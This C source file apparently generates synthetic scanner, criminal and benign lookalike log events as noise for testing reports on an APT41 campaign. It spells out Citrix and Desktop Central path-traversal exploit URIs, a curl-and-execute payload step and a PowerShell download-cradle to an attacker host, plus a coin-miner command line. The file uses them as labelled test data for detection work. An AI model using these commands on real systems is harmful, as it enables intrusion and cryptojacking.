/*
 * noise.c - everything that makes the campaign hard to see: mass scanners
 * and other criminals exploiting the same CVEs from many addresses (some
 * get 200s, one or two really compromise a tenant), a benign
 * vulnerability-scanning service that probes every tenant, and benign
 * traffic shaped like the exploits or their aftermath.
 *
 * None of it is APT41; truth.json lists it under "noise" so that a
 * campaign report can be checked for over-attribution.
 */
#include "core/common.h"

#include "sim/plan.h"

static int64_t between(sim_rng *r, int64_t a, int64_t b)
{
    return a + (int64_t)(sim_f64(r) * (double)(b - a));
}

static int64_t secs(sim_rng *r, double lo, double hi)
{
    return (int64_t)((lo + sim_f64(r) * (hi - lo)) * 1e9);
}

static const char *const scan_uas[] = {
    "python-requests/2.22.0",
    "curl/7.58.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/74.0.3729.169 Safari/537.36",
    "Mozilla/5.0 zgrab/0.x",
    "Go-http-client/1.1",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Mozilla/5.0 (X11; Linux x86_64; rv:68.0) Gecko/20100101 Firefox/68.0",
};

enum citrix_style { CS_CHECK, CS_NOTROBIN, CS_MINER, CS_ENCODED, CS_COUNT };
static const char *const style_kind[CS_COUNT] = { "research-scanner", "notrobin", "miner",
                                                  "exploit-kit" };

static uint32_t new_scanner(sim_ctx *c, sim_rng *r, const char *kind, int cve)
{
    sim_scanner *s = &c->scanners[c->nscanners];
    s->ip = sim_fresh_ip(c, r);
    s->kind = kind;
    s->cves[0] = (uint8_t)cve;
    s->ua = SIM_PICK(r, scan_uas);
    return c->nscanners++;
}

static sim_mark scan_mark(int cve, int stage, uint32_t who)
{
    return sim_mk(ACT_SCANNER, cve, stage, (int)who);
}

/* Inbound connection as the head-office sensor sees it. */
static void zeek_inbound(sim_ctx *c, sim_tenant *t, sim_rng *r, int64_t ts, sim_mark m,
                         uint32_t src, uint32_t dst, uint16_t port)
{
    if (!t->zeek)
        return;
    sim_ev *e = sim_net_ev(c, t, SS_ZEEK, ts - 120 * 1000000, m, APP_SSL, src, sim_eport(r), dst,
                           port);
    e->u.net.subject = sim_strf(c, "CN=gateway.%s.example.com", t->slug);
    e->u.net.issuer = "CN=DigiCert SHA2 Secure Server CA,O=DigiCert Inc,C=US";
    e->u.net.ob = 900 + sim_below(r, 1500);
    e->u.net.rb = 900 + sim_below(r, 3000);
    e->u.net.dur_us = 400000 + sim_below(r, 2000000);
}

/* One scanner visit to a Citrix tenant; returns the time of the last
 * request and whether the template ran. */
static bool citrix_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
{
    const sim_scanner *s = &c->scanners[idx];
    uint16_t st = sim_citrix_status(t, ts, 200);
    int stage = st == 200 ? ST_EXPLOITED : ST_TARGETED;
    zeek_inbound(c, t, r, ts, scan_mark(CVE_CITRIX, ST_TARGETED, idx), s->ip, t->vip, 443);
    const char *post = NULL, *xml = NULL;
    switch (s->style) {
    case CS_CHECK:
        sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, idx), s->ip, "GET",
                   "/vpn/../vpns/cfg/smb.conf", st, st == 200 ? 1284 : 563, s->ua);
        return false;
    case CS_ENCODED:
        sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, idx), s->ip, "GET",
                   sim_chance(r, 0.5) ? "/vpn/%2E%2E/vpns/cfg/smb.conf"
                                      : "/vpn/..%2Fvpns/cfg/smb.conf",
                   st, st == 200 ? 1284 : 563, s->ua);
        post = "/vpn/..%2Fvpns/portal/scripts/newbm.pl";
        xml = sim_strf(c, "/vpn/..%%2Fvpns/portal/%s.xml", sim_rand_name(c, r, 8));
        ts += secs(r, 1, 3);
        break;
    case CS_NOTROBIN:
        /* the traversal rides in NSC_USER; the URL looks like a user's */
        post = "/vpns/portal/scripts/newbm.pl";
        xml = sim_strf(c, "/vpns/portal/%s.xml", sim_rand_name(c, r, 32));
        break;
    default:
        post = "/vpn/../vpns/portal/scripts/newbm.pl";
        xml = sim_strf(c, "/vpn/../vpns/portal/%s.xml", sim_rand_name(c, r, 12));
        break;
    }
    sim_web_ev(c, t, SS_CITRIX_WEB, ts, scan_mark(CVE_CITRIX, stage, idx), s->ip, "POST",
               post, st, st == 200 ? 130 + sim_below(r, 60) : 563, s->ua);
    ts += secs(r, 0.5, 4);
    st = st == 200 ? sim_citrix_status(t, ts, 200) : st;
    sim_ev *e = sim_web_ev(c, t, SS_CITRIX_WEB, ts,
                           scan_mark(CVE_CITRIX, st == 200 ? ST_EXPLOITED : ST_TARGETED, idx),
                           s->ip, sim_chance(r, 0.2) ? "HEAD" : "GET", xml, st,
                           st == 200 ? 200 + sim_below(r, 600) : 563, s->ua);
    e->u.web.time_us = 50000 + sim_below(r, 150000);
    return st == 200;
}

/* NOTROBIN-style takeover: the template fetches the kit from the actor's
 * server with curl and runs it. */
static void citrix_takeover(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t who, int64_t ts)
{
    const sim_scanner *s = &c->scanners[who];
    sim_mark m = scan_mark(CVE_CITRIX, ST_COMPROMISED, who);
    char ip[16];
    sim_ip_str(s->ip, ip);
    const char *cmds[2] = {
        sim_strf(c, "/usr/bin/curl -k -s https://%s/wp-content/uploads/2020/01/piz.Lan -o "
                    "/tmp/.init/piz.Lan", ip),
        "chmod 777 /tmp/.init/piz.Lan;/tmp/.init/piz.Lan",
    };
    for (int k = 0; k < 2; k++) {
        sim_ev *e = sim_add(c, t, SS_CITRIX_SH, ts + secs(r, 0.1, 0.5) + k * 2 * SIM_NS, m);
        e->u.sh = (sim_sh){ .user = "nobody", .cmd = cmds[k], .pid = 40000 + sim_below(r, 20000) };
    }
    sim_ev *e = sim_net_ev(c, t, SS_ZEEK, ts + SIM_NS, m, APP_SSL, t->nsip, sim_eport(r), s->ip,
                           443);
    e->u.net.subject = sim_strf(c, "CN=%s", ip);
    e->u.net.issuer = e->u.net.subject;
    e->u.net.rb = 48000 + sim_below(r, 20000);
    e->u.net.ob = 600;
    e->u.net.dur_us = 1800000;
}

/* Scanners and other actors: who they are and when they are active. */
static void plan_scanners(sim_ctx *c, sim_rng *r, uint32_t nx, uint32_t nr, uint32_t nz)
{
    int64_t a = sim_date(2020, 1, 10), b = sim_date(2020, 3, 17);
    int64_t from = c->from > a ? c->from : a, to = c->to < b ? c->to : b;
    if (to < from + 2 * SIM_DAY)
        to = from + 2 * SIM_DAY;
    c->takeover_tenant = c->miner_tenant = UINT32_MAX;
    for (uint32_t k = 0; k < nx; k++) {
        int style = (int)(k % CS_COUNT);
        sim_scanner *s = &c->scanners[new_scanner(c, r, style_kind[style], CVE_CITRIX)];
        s->style = style;
        s->from = between(r, from, to - SIM_DAY);
        s->to = s->from + SIM_DAY + (int64_t)(sim_f64(r) * 25 * 86400e9);
        s->p = 0.15 + sim_f64(r) * 0.4;
        if (style == CS_NOTROBIN && c->takeover_tenant == UINT32_MAX) {
            /* another actor's real compromise: a vulnerable, untargeted tenant whose
             * shell log shows it */
            for (uint32_t i = 0; i < c->nt; i++) {
                sim_tenant *t = &c->t[i];
                if (t->citrix && !t->role[CVE_CITRIX] && t->log_citrix && t->log_sh &&
                    t->citrix_fixed > sim_date(2020, 1, 24)) {
                    c->takeover_tenant = i;
                    c->takeover_by = (uint32_t)(s - c->scanners);
                    break;
                }
            }
        }
    }
    for (uint32_t k = 0; k < nr; k++) {
        sim_scanner *s =
            &c->scanners[new_scanner(c, r, k % 2 ? "research-scanner" : "botnet", CVE_RV_1653)];
        s->from = between(r, c->from, c->to - 2 * SIM_DAY);
        s->to = TR_MIN(c->to, s->from + 2 * SIM_DAY + (int64_t)(sim_f64(r) * 40 * 86400e9));
        s->p = 0.5;
    }
    for (uint32_t k = 0; k < nz; k++) {
        sim_scanner *s =
            &c->scanners[new_scanner(c, r, k == 0 ? "miner" : "research-scanner", CVE_ZOHO)];
        s->from = sim_date(2020, 3, 6); /* the day after the public PoC */
        s->to = c->to;
        s->p = 0.5;
        if (k == 0) {
            for (uint32_t i = 0; i < c->nt; i++) {
                sim_tenant *t = &c->t[i];
                if (t->dc && !t->role[CVE_ZOHO] && t->log_dc && t->log_sysmon &&
                    t->dc_fixed > sim_date(2020, 3, 10)) {
                    c->miner_tenant = i;
                    c->miner_by = (uint32_t)(s - c->scanners);
                    break;
                }
            }
        }
    }
}

static void cisco_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
{
    const sim_scanner *s = &c->scanners[idx];
    bool ok = t->cisco_vuln;
    sim_ev *e = sim_net_ev(c, t, SS_EVE, ts,
                           scan_mark(CVE_RV_1653, ok ? ST_EXPLOITED : ST_TARGETED, idx), APP_HTTP,
                           s->ip, sim_eport(r), t->wan, 8007);
    sim_net *nt = &e->u.net;
    nt->method = "GET";
    nt->uri = sim_chance(r, 0.85) ? "/cgi-bin/config.exp" : "/cgi-bin/config.exp?";
    nt->host = sim_strf(c, "%u.%u.%u.%u:8007", t->wan >> 24, (t->wan >> 16) & 255,
                        (t->wan >> 8) & 255, t->wan & 255);
    nt->ua = s->ua;
    nt->status = ok ? 200 : t->cisco_block;
    nt->resp_len = ok ? 18000 + sim_below(r, 9000) : 345;
    nt->mime = ok ? "text/plain" : "text/html";
    nt->ob = 200;
    nt->rb = nt->resp_len + 220;
    nt->sid = 2033089;
    nt->sid2 = ok ? 2033090 : 0;
}

static const char *const dc_exploit_uris[] = {
    "/mdm/client/v1/mdmLogUploader?udid=si%5C..%5C..%5C..%5Cwebapps%5CDesktopCentral%5C_chart"
    "&filename=logger.zip",
    "/mdm/client/v1/mdmLogUploader?udid=si%5c..%5c..%5c..%5cwebapps%5cDesktopCentral%5c_chart"
    "&filename=logger.zip",
    "/mdm/client/v1/mdmLogUploader?udid=si/../../../webapps/DesktopCentral/_chart"
    "&filename=img.zip",
};

/* A coin miner through the Desktop Central hole. */
static void miner_takeover(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
{
    const sim_scanner *s = &c->scanners[idx];
    char ip[16];
    sim_ip_str(s->ip, ip);
    sim_mark m = scan_mark(CVE_ZOHO, ST_COMPROMISED, idx);
    const char *ps = sim_strf(c, "powershell -nop -c \"IEX (New-Object "
                                 "Net.WebClient).DownloadString('http://%s:8080/xm.ps1')\"",
                              ip);
    const char *psimg = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    uint32_t pid = sim_proc(c, t, ts + secs(r, 1, 3), m, psimg, ps, t->pid_java, t->java,
                            t->java_cmd, "NT AUTHORITY\\SYSTEM", NULL);
    sim_ev *e = sim_sm_ev(c, t, ts + secs(r, 4, 6), m, 3);
    e->u.sm.pid = pid;
    e->u.sm.image = psimg;
    e->u.sm.user = "NT AUTHORITY\\SYSTEM";
    e->u.sm.sip = t->dc_lan;
    e->u.sm.sport = sim_eport(r);
    e->u.sm.dip = s->ip;
    e->u.sm.dport = 8080;
    e->u.sm.initiated = true;
    sim_proc(c, t, ts + secs(r, 8, 12), m, "C:\\Windows\\Temp\\svchosts.exe",
             "C:\\Windows\\Temp\\svchosts.exe -o stratum+tcp://pool.minexmr.com:4444 -k", pid,
             psimg, ps, "NT AUTHORITY\\SYSTEM", NULL);
}

static bool zoho_scan(sim_ctx *c, sim_tenant *t, sim_rng *r, uint32_t idx, int64_t ts)
{
    const sim_scanner *s = &c->scanners[idx];
    uint16_t st = sim_dc_status(t, ts, 200);
    const char *uri = SIM_PICK(r, dc_exploit_uris);
    sim_web_ev(c, t, SS_DC_WEB, ts, scan_mark(CVE_ZOHO, ST_TARGETED, idx), s->ip, "POST", uri, st,
               st == 200 ? 0 : 1022, s->ua);
    ts += secs(r, 1, 4);
    sim_mark m2 = scan_mark(CVE_ZOHO, st == 200 ? ST_EXPLOITED : ST_TARGETED, idx);
    sim_web_ev(c, t, SS_DC_WEB, ts, m2, s->ip, "GET",
               strstr(uri, "img.zip") ? "/cewolf/?img=/img.zip" : "/cewolf/?img=%5Clogger.zip", st,
               st == 200 ? 0 : 1022, s->ua);
    return st == 200;
}

/* Every scanner's visits to one tenant. */
static void tenant_scans(sim_ctx *c, sim_tenant *t, sim_rng *r)
{
    for (uint32_t k = 0; k < c->nscanners; k++) {
        const sim_scanner *s = &c->scanners[k];
        int cve = s->cves[0];
        bool runs = cve == CVE_CITRIX ? t->citrix : cve == CVE_ZOHO ? t->dc : t->cisco;
        bool take = (t->idx == c->takeover_tenant && k == c->takeover_by) ||
                    (t->idx == c->miner_tenant && k == c->miner_by);
        double roll = sim_f64(r);
        if (!runs || (!take && roll >= s->p))
            continue;
        int visits = 1 + (int)sim_below(r, cve == CVE_RV_1653 ? 4 : cve == CVE_CITRIX ? 3 : 1);
        for (int v = 0; v < visits; v++) {
            int64_t ts = between(r, s->from, s->to);
            if (cve == CVE_CITRIX)
                citrix_scan(c, t, r, k, ts);
            else if (cve == CVE_RV_1653)
                cisco_scan(c, t, r, k, ts);
            else
                zoho_scan(c, t, r, k, ts);
        }
        if (take && cve == CVE_CITRIX) {
            int64_t ts = between(r, sim_date(2020, 1, 12), sim_date(2020, 1, 23));
            if (citrix_scan(c, t, r, k, ts))
                citrix_takeover(c, t, r, k, ts + secs(r, 3, 8));
        } else if (take) {
            int64_t ts = between(r, sim_date(2020, 3, 7), sim_date(2020, 3, 10));
            if (zoho_scan(c, t, r, k, ts))
                miner_takeover(c, t, r, k, ts + secs(r, 1, 4));
        }
    }
}

/* The provider's own external vulnerability scan: every Monday it probes
 * every tenant's appliances, CVE checks included. */
static void tenant_service(sim_ctx *c, sim_tenant *t, sim_rng *r)
{
    uint32_t ip = c->service_ip;
    const char *ua = "Mozilla/5.0 (compatible; PerimeterScan/4.1; +https://scan.mssp.example/)";
    sim_mark mk = sim_mk(ACT_SERVICE, CVE_NONE, ST_NONE, 0);
    uint32_t i = t->idx;
    for (int64_t week = sim_date(2020, 1, 13) + 3 * SIM_HOUR; week < c->to; week += 7 * SIM_DAY) {
        {
            int64_t ts = week + (int64_t)(i % 300) * 41 * SIM_NS + secs(r, 0, 20);
            if (t->citrix) {
                uint16_t st = sim_citrix_status(t, ts, 200);
                sim_mark m = sim_mk(ACT_SERVICE, CVE_CITRIX, st == 200 ? ST_EXPLOITED
                                                                       : ST_TARGETED, 0);
                zeek_inbound(c, t, r, ts, m, ip, t->vip, 443);
                sim_web_ev(c, t, SS_CITRIX_WEB, ts, mk, ip, "GET", "/vpn/index.html", 200, 3042,
                           ua);
                sim_web_ev(c, t, SS_CITRIX_WEB, ts + secs(r, 0.3, 1), m, ip, "GET",
                           "/vpn/../vpns/cfg/smb.conf", st, st == 200 ? 1284 : 563, ua);
            }
            if (t->cisco) {
                bool ok = t->cisco_vuln;
                sim_ev *e = sim_net_ev(c, t, SS_EVE, ts + secs(r, 2, 4),
                                       sim_mk(ACT_SERVICE, CVE_RV_1653,
                                              ok ? ST_EXPLOITED : ST_TARGETED, 0),
                                       APP_HTTP, ip, sim_eport(r), t->wan, 8007);
                sim_net *n = &e->u.net;
                n->method = "GET";
                n->uri = "/cgi-bin/config.exp";
                n->host = sim_strf(c, "%u.%u.%u.%u:8007", t->wan >> 24, (t->wan >> 16) & 255,
                                   (t->wan >> 8) & 255, t->wan & 255);
                n->ua = ua;
                n->status = ok ? 200 : t->cisco_block;
                n->resp_len = ok ? 21000 : 345;
                n->mime = ok ? "text/plain" : "text/html";
                n->ob = 190;
                n->rb = n->resp_len + 220;
                n->sid = 2033089;
                n->sid2 = ok ? 2033090 : 0;
            }
            if (t->dc) {
                sim_web_ev(c, t, SS_DC_WEB, ts + secs(r, 4, 6), mk, ip, "GET", "/", 200, 1790, ua);
                sim_web_ev(c, t, SS_DC_WEB, ts + secs(r, 6, 8), mk, ip, "GET",
                           "/configurations.do", 200, 21450, ua);
            }
        }
    }
}

static sim_mark lk(int kind)
{
    return sim_mk(ACT_LOOKALIKE, CVE_NONE, ST_NONE, kind);
}

/* Poisson arrivals over the window at `per_day`, office hours only. */
#define FOR_ARRIVALS(c, r, t, per_day, ts)                                                        \
    for (int64_t ts = (c)->from + (int64_t)(sim_exp((r), 86400.0 / (per_day)) * 1e9);            \
         ts < (c)->to; ts += (int64_t)(sim_exp((r), 86400.0 / (per_day)) * 1e9))                 \
        if (office_hour(t, ts))

static bool office_hour(const sim_tenant *t, int64_t ts)
{
    int64_t local = ts / SIM_NS + (int64_t)sim_tz_at(t, ts) * 60;
    int h = (int)((local % 86400 + 86400) % 86400 / 3600);
    int wd = (int)(((local / 86400) % 7 + 7 + 4) % 7); /* 0 = Sunday */
    return h >= 7 && h < 19 && wd != 0 && wd != 6;
}

static void tenant_lookalikes(sim_ctx *c, sim_tenant *t, sim_rng *r)
{
    static const char *const users[] = { "jsmith", "a.tanaka", "mrossi", "kdubois", "p.nair",
                                         "lsantos", "hweber", "e.virtanen", "tquinn", "s.haddad" };
    static const char *const bua =
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/79.0.3945.130 Safari/537.36";
    {
        sim_rng ur;
        sim_rng_init(&ur, t->pool_seed);
        if (t->citrix) {
            FOR_ARRIVALS(c, r, t, 0.6, ts) {
                uint32_t ip = sim_public_ip(r);
                sim_ev *e = sim_web_ev(c, t, SS_CITRIX_WEB, ts, lk(LK_CITRIX_BOOKMARK), ip, "POST",
                                       "/vpns/portal/scripts/newbm.pl", 200,
                                       180 + sim_below(r, 80), bua);
                e->u.web.user = SIM_PICK(r, users);
                e->u.web.ref = sim_strf(c, "https://gateway.%s.example.com/vpns/portal/"
                                           "bookmarks.html", t->slug);
                if (sim_chance(r, 0.3)) {
                    e = sim_web_ev(c, t, SS_CITRIX_WEB, ts + secs(r, 20, 600),
                                   lk(LK_CITRIX_BOOKMARK), ip, "POST",
                                   "/vpns/portal/scripts/rmbm.pl", 200, 160, bua);
                    e->u.web.user = SIM_PICK(r, users);
                }
            }
            if (t->log_sh) {
                FOR_ARRIVALS(c, r, t, 0.15, ts) {
                    static const char *const cmds[] = {
                        "ls -l /netscaler/portal/templates/",
                        "ls -la /var/tmp/netscaler/portal/templates",
                        "grep -c vpns /var/log/httpaccess.log",
                        "file /var/nsinstall/build-13.0-47.24_nc_64.tgz",
                        "/usr/bin/ftp -u ftp://upload.mssp.example/incoming/ "
                        "/var/tmp/support/collector_P_10.1.250.10_19Feb2020_10_05.tar.gz",
                        "shell_check.sh",
                    };
                    sim_ev *e = sim_add(c, t, SS_CITRIX_SH, ts, lk(LK_ADMIN_SHELL));
                    e->u.sh = (sim_sh){ .user = "root", .cmd = SIM_PICK(r, cmds),
                                        .tty = "/dev/pts/0", .pid = 30000 + sim_below(r, 9000) };
                }
            }
        }
        if (t->cisco) {
            for (int64_t ts = c->from + secs(r, 86400, 7 * 86400); ts < c->to;
                 ts += 7 * SIM_DAY + secs(r, -7200, 7200)) {
                for (int k = 0; k < 2; k++) {
                    sim_ev *e = sim_net_ev(c, t, SS_EVE, ts + k * 4 * SIM_NS, lk(LK_CISCO_BACKUP),
                                           APP_HTTP, c->mssp_ip, sim_eport(r), t->wan, 8007);
                    sim_net *n = &e->u.net;
                    n->method = k == 0 ? "POST" : "GET";
                    n->uri = k == 0 ? "/cgi-bin/userLogin.cgi" : "/cgi-bin/config.exp";
                    n->host = sim_strf(c, "%u.%u.%u.%u:8007", t->wan >> 24, (t->wan >> 16) & 255,
                                       (t->wan >> 8) & 255, t->wan & 255);
                    n->ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:72.0) Gecko/20100101 "
                            "Firefox/72.0";
                    n->status = 200;
                    n->req_len = k == 0 ? 180 : 0;
                    n->resp_len = k == 0 ? 1480 : 21000 + sim_below(r, 3000);
                    n->mime = "text/plain";
                    n->ob = 300;
                    n->rb = n->resp_len + 220;
                    n->ref = k ? sim_strf(c, "http://%u.%u.%u.%u:8007/backup_restore.htm",
                                          t->wan >> 24, (t->wan >> 16) & 255,
                                          (t->wan >> 8) & 255, t->wan & 255)
                               : NULL;
                    if (k == 1) {
                        n->sid = 2033089;
                        n->sid2 = 2033090;
                    }
                }
            }
        }
        if (t->dc) {
            FOR_ARRIVALS(c, r, t, 3.0, ts) {
                sim_web_ev(c, t, SS_DC_WEB, ts, lk(LK_DC_MDM_AGENT), sim_public_ip(r), "POST",
                           sim_strf(c, "/mdm/client/v1/mdmLogUploader?udid=%08x%08x&filename="
                                       "mdmlogs_%u.zip",
                                    (uint32_t)sim_u64(&ur), (uint32_t)sim_u64(r),
                                    1583000000u + sim_below(r, 9999999)),
                           200, 0, "Dalvik/2.1.0 (Linux; U; Android 9; SM-G960F Build/PPR1)");
            }
            FOR_ARRIVALS(c, r, t, 8.0, ts) {
                uint32_t ip = t->lan | (2u << 8) | (10 + sim_below(r, 40));
                int64_t id = -(int64_t)(100000000 + sim_below(r, 1900000000));
                sim_web_ev(c, t, SS_DC_WEB, ts, lk(LK_DC_CHART), ip, "GET",
                           sim_strf(c, "/cewolf/?img=%lld&width=%u&height=%u", (long long)id,
                                    300 + 50 * sim_below(r, 5), 200 + 25 * sim_below(r, 4)),
                           200, 3000 + sim_below(r, 12000), bua);
            }
        }
        if (t->dc && t->log_sysmon) {
            const char *java = t->java;
            const char *cmdimg = "C:\\Windows\\System32\\cmd.exe";
            FOR_ARRIVALS(c, r, t, 2.0, ts) {
                static const char *const bats[] = { "dcservicecheck.bat", "updateAgentStatus.bat",
                                                    "scheduledBackup.bat", "cleanupTemp.bat" };
                const char *cmd;
                const char *img = cmdimg;
                uint32_t k = sim_below(r, 4);
                if (k == 3) {
                    img = "C:\\Windows\\System32\\reg.exe";
                    cmd = "reg query \"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\" "
                          "/v ProductName";
                } else {
                    cmd = sim_strf(c, "cmd.exe /c \"\"%s\\bin\\%s\"\"", t->dc_root,
                                   SIM_PICK(r, bats));
                }
                sim_proc(c, t, ts, lk(LK_DC_JAVA_CHILD), img, cmd, t->pid_java, java, t->java_cmd,
                         "NT AUTHORITY\\SYSTEM", NULL);
            }
            FOR_ARRIVALS(c, r, t, 0.2, ts) {
                const char *admin = sim_strf(c, "%.20s\\it.admin", t->slug);
                const char *cmdline = "\"C:\\Windows\\system32\\cmd.exe\" ";
                uint32_t sh = sim_proc(c, t, ts, lk(LK_IT_CERTUTIL), cmdimg, cmdline,
                                       t->pid_explorer, "C:\\Windows\\explorer.exe", NULL, admin,
                                       NULL);
                static const char *const cu[] = {
                    "certutil -hashfile C:\\Users\\it.admin\\Downloads\\ManageEngine_DesktopCentral"
                    "_64bit.exe SHA256",
                    "certutil -urlcache -split -f https://download.manageengine.com/products/"
                    "desktop-central/91084042/ManageEngine_DesktopCentral_64bit.exe",
                    "certutil -verify -urlfetch C:\\Temp\\server.cer",
                    "certutil -urlcache * delete",
                };
                const char *ccl = SIM_PICK(r, cu);
                sim_proc(c, t, ts + secs(r, 5, 120), lk(LK_IT_CERTUTIL),
                         "C:\\Windows\\System32\\certutil.exe", ccl, sh, cmdimg, cmdline, admin,
                         NULL);
            }
            FOR_ARRIVALS(c, r, t, 0.1, ts) {
                const char *admin = sim_strf(c, "%.20s\\it.admin", t->slug);
                const char *bcl = "bitsadmin /transfer PatchDownload /download /priority normal "
                                  "http://download.windowsupdate.com/c/msdownload/update/software/"
                                  "secu/2020/02/windows10.0-kb4537759-x64_0a2ab8a5.msu "
                                  "C:\\Temp\\kb4537759.msu";
                sim_proc(c, t, ts, lk(LK_IT_BITSADMIN), "C:\\Windows\\System32\\bitsadmin.exe",
                         bcl, t->pid_explorer, "C:\\Windows\\explorer.exe", NULL, admin, NULL);
            }
        }
    }
}

tr_err sim_plan_noise(sim_ctx *c, sim_rng *r)
{
    uint32_t ncitrix = 0, ncisco = 0, ndc = 0;
    for (uint32_t i = 0; i < c->nt; i++) {
        ncitrix += c->t[i].citrix;
        ncisco += c->t[i].cisco;
        ndc += c->t[i].dc;
    }
    uint32_t nx = TR_MIN(60u, TR_MAX(8u, ncitrix / 2));
    uint32_t nr = TR_MIN(20u, TR_MAX(3u, ncisco / 2));
    uint32_t nz = TR_MIN(12u, TR_MAX(2u, ndc / 3));
    c->scanners = tr_calloc(nx + nr + nz, sizeof(sim_scanner));
    if (!c->scanners)
        return TR_ENOMEM;
    c->service_ip = sim_fresh_ip(c, r);
    c->monitor_ip = sim_fresh_ip(c, r);
    c->mssp_ip = sim_fresh_ip(c, r);
    plan_scanners(c, r, nx, nr, nz);
    return c->oom ? TR_ENOMEM : TR_OK;
}

tr_err sim_tenant_noise(sim_ctx *c, sim_tenant *t)
{
    sim_rng r;
    sim_rng_init(&r, sim_seed_mix(c->o.seed, (uint64_t)t->idx + 1, 0x2015E));
    tenant_scans(c, t, &r);
    tenant_service(c, t, &r);
    tenant_lookalikes(c, t, &r);
    return c->oom ? TR_ENOMEM : TR_OK;
}
